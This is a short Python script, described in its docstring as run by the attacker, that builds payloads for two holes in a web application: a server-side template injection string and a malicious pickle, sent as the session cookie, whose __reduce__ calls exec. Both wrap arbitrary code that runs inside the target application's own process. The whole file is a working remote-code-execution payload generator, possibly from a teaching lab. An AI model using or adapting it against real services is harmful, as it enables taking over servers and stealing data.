#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""Packs code for one of the web application's holes; runs at the attacker's.

    payload.py template|pickle FILE NAME=VALUE...

Prints the text parameter of /hello, or the session cookie. The values are set
before the code runs, in the application's own process.
"""
import base64
import pickle
import sys

hole, path = sys.argv[1:3]
with open(path) as file:
    code = "".join(f"{name}={value!r}\n" for name, value in
                   (pair.split("=", 1) for pair in sys.argv[3:])) + file.read()


class Payload:
    def __reduce__(self):
        return exec, (code, {})


if hole == "template":
    packed = base64.b64encode(code.encode()).decode()
    print("{{exec(__import__('base64').b64decode('" + packed + "'), {})}}")
else:
    print(base64.urlsafe_b64encode(pickle.dumps(Payload())).decode())
